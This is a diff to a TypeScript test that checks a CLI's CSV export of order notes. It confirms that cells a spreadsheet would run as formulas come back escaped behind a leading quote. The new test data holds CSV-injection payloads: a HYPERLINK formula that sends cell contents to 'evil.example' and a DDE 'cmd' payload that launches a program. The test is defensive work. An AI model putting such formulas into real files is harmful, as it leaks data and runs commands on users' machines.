@@ -17,35 +17,39 @@ const requests = async () => (await sb.admin<{ requests: number }>('GET', '/stat
 const seedStatement = (body: Parameters<typeof seed>[1]) => seed(sb, body);
 
 describe('CSV as spreadsheets read it', () => {
-  it('; tab newline =1+2 -12 +919876543210 and non-ASCII names round-trip, split on , ; and tab alike', async () => {
-    const notes = {
+  it('notes round-trip split on , ; or tab; a cell a spreadsheet would run is guarded, a number is not', async () => {
+    // Notes a spreadsheet reads back as they were sent: separators, a newline, signed numbers, any script.
+    const asSent = {
       semi: 'a;b',
       tab: 'a\tb',
       nl: 'line one\nline two',
-      formula: '=1+2',
       neg: '-12',
       phone: '+919876543210',
       name: 'Ñandú Šťastný 名前 ₹',
     };
+    // Notes a spreadsheet would run as formulas, real-looking payloads too: they read back behind a quote.
+    const formulas = [
+      '=1+2',
+      '=HYPERLINK("http://evil.example/?"&A1,"Refund status")',
+      '+1-800-FAKE',
+      '-2+3',
+      '@SUM(1,2)',
+      "=cmd|' /C calc'!A0",
+    ];
+    const guarded = Object.fromEntries(formulas.map((f, i) => [`formula${i + 1}`, f]));
+    const notes = { ...asSent, ...guarded };
     const created = await apiOrder(sb, { amount: 5000, receipt: 'csv-roundtrip', notes });
     const fields = ['id', ...Object.keys(notes).map((k) => `notes.${k}`)];
     const res = await run(['orders', 'list', '--receipt', 'csv-roundtrip', '-o', 'csv', '--fields', fields.join(',')], {
       env: sb.env,
     });
     expect(res.code, res.stderr).toBe(0);
+    const cells = (sent: Record<string, string>, quote: string) =>
+      Object.fromEntries(Object.entries(sent).map(([k, note]) => [`notes.${k}`, quote + note]));
     // LibreOffice's default import splits on comma, semicolon and tab.
     for (const delimiter of [',', [',', ';', '\t']]) {
       const [row] = parse(res.stdout, { columns: true, delimiter }) as Row[];
-      expect(row).toEqual({
-        id: created.id,
-        'notes.semi': 'a;b',
-        'notes.tab': 'a\tb',
-        'notes.nl': 'line one\nline two',
-        'notes.formula': "'=1+2",
-        'notes.neg': '-12',
-        'notes.phone': '+919876543210',
-        'notes.name': notes.name,
-      });
+      expect(row).toEqual({ id: created.id, ...cells(asSent, ''), ...cells(guarded, "'") });
     }
   });
 
